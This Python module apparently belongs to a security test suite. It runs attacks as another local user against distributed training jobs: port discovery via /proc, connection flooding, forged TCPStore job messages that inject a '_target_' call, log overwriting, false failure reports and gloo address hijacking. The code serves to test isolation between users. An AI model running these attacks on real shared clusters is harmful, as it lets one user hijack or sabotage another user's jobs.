"""What a stranger does to a run: functions that a process of another user runs until it is killed."""

import encodings.idna  # noqa: F401  # the other user may not be able to read it
import json
import os
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Collection, Iterator, Mapping
from contextlib import contextmanager, suppress
from datetime import timedelta
from pathlib import Path
from typing import IO

from torch.distributed import TCPStore


@contextmanager
def as_user(user: int, attack: Callable[[], None]) -> Iterator[int]:
    """Run an attack in a process of that user while the context lasts; what it prints is shown with a failed test."""
    process = os.fork()
    if process == 0:
        try:
            os.setgroups([])
            os.setgid(user)
            os.setuid(user)
            attack()
        except BaseException as error:
            print(f"the attack ended: {error!r}", file=sys.stderr, flush=True)
        finally:
            os._exit(0)
    try:
        yield process
    finally:
        with suppress(ProcessLookupError):
            os.kill(process, signal.SIGKILL)
        os.waitpid(process, 0)


def listening(user: int) -> set[int]:
    """Return the ports that a user's processes listen on, as every user may see them."""
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    return {int(fields[1].split(":")[1], 16) for fields in lines if fields[3] == "0A" and int(fields[7]) == user}


def ports_of(processes: Collection[int]) -> set[int]:
    """Return the ports that processes listen on."""
    files = [file for process in processes for file in Path(f"/proc/{process}/fd").iterdir()]
    sockets = {os.readlink(file) for file in files if os.path.lexists(file)}
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    ours = [fields for fields in lines if f"socket:[{fields[9]}]" in sockets]
    return {int(fields[1].split(":")[1], 16) for fields in ours if fields[3] == "0A"}


def knock(victim: int, known: set[int], seen: IO[str]) -> None:
    """Connect to every port that opens, and write it down: idle, with junk, and with each number gloo may wait for."""
    words = [b"", b"GET / HTTP/1.1\r\n\r\n", b"\xff" * 4096, *(struct.pack("<q", number) for number in range(24))]
    held: list[socket.socket] = []
    while True:
        for port in listening(victim) - known:
            known.add(port)
            print(port, file=seen, flush=True)
            for word in words:
                with suppress(OSError):
                    connection = socket.create_connection(("127.0.0.1", port), timeout=0.2)
                    connection.sendall(word)
                    held.append(connection)
        time.sleep(0.001)


def flood(ports: set[int], processes: list[int], opened: IO[str]) -> None:
    """Connect a hundred times to each port, and stay; open what the processes have open, and write down what opened."""
    held = []
    for port in ports:
        for _ in range(100):
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex(("127.0.0.1", port))
            held.append(connection)
    for process in processes:
        for number in range(64):
            with suppress(OSError), open(f"/proc/{process}/fd/{number}", "rb"):
                print(f"{process}/fd/{number}", file=opened)
    print("end", file=opened, flush=True)
    time.sleep(600)


def forge(touched: str, line: str, store: TCPStore) -> None:
    """Write a job for the ranks that follow, which would touch a file, and lines for rank 0's log."""
    (posted,) = names(store, "/message/0")
    signature, _, text = store.get(posted).decode().partition(":")
    job = json.loads(text)
    job["config"]["model"] = {"_target_": "pathlib.Path.touch", "self": touched}
    prefix = posted.removesuffix("message/0")
    store.set(f"{prefix}message/1", f"{signature}:{json.dumps(job)}")
    for number in range(1, 4):
        store.set(f"{prefix}run/0/log/1/{number}", line)
        store.set(f"{prefix}run/0/log/1/{number + 5}", f"{signature}:{line}")
    store.add(f"{prefix}run/0/log/count", 10**9)
    store.set("attacked", "")


def scribble(elsewhere: str, written: str, forged: Mapping[str, str], over_all: bool, store: TCPStore) -> None:
    """Write over all that the ranks of a run have written; and what they are about to write, with a digest of theirs.

    A job that is forged would touch a file, and has its run directory there. It waits for what the rank has written by
    then, which would else be written over the forgery.
    """
    names(store, written)
    (posted,) = names(store, "/message/0")
    signature, _, text = store.get(posted).decode().partition(":")
    job = json.loads(text)
    job["directory"] = job["config"]["model"]["self"] = elsewhere
    job["config"]["model"]["_target_"] = "pathlib.Path.touch"
    for key in store.list_keys():
        if over_all and key.lstrip("/").startswith("ddp_recipes"):
            store.set(key.removeprefix("/"), f"{signature}:junk")
    for name, forgery in forged.items():
        store.set(f"{posted.removesuffix('message/0')}{name}", f"{signature}:{forgery or json.dumps(job)}")
    store.set("attacked", "")


def blame(rank: int, store: TCPStore) -> None:
    """Write that a rank has failed."""
    (posted,) = names(store, "/ready/0")
    store.set(f"{posted.removesuffix('ready/0')}failed/{rank}", store.get(posted))
    store.set("attacked", "")


def get_between(store: TCPStore) -> None:
    """Write an address, for gloo to connect to, in place of rank 1."""
    (posted,) = names(store, "/cpu//0/0")
    store.set(f"{posted.removesuffix('0')}1", store.get(posted))
    store.set("attacked", "")


def writes_into(host: str, port: int, forge: Callable[[TCPStore], None]) -> None:
    """Connect to the store at an address as any client may, and write there what the function does."""
    store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=20), wait_for_workers=False)
    forge(store)
    time.sleep(600)


def names(store: TCPStore, ending: str) -> list[str]:
    """Wait for keys that end so; return them as a client of the store writes them."""
    while not (found := [key for key in store.list_keys() if key.endswith(ending)]):
        time.sleep(0.01)
    return [key.removeprefix("/") for key in found]
